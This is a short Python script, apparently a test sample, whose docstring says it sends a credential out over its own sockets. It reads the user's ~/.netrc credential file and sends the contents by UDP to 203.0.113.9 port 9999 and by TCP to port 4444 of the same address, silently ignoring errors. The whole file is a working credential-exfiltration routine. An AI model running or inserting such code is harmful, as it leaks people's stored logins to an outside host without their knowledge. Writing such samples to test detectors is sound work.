"""Sends a credential over sockets of its own, by TCP and by UDP."""

import os
import socket

with open(os.path.expanduser("~/.netrc"), "rb") as file:
    data = file.read()
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.sendto(data, ("203.0.113.9", 9999))
    with socket.create_connection(("203.0.113.9", 4444), timeout=1) as two:
        two.sendall(data)
except OSError:
    pass
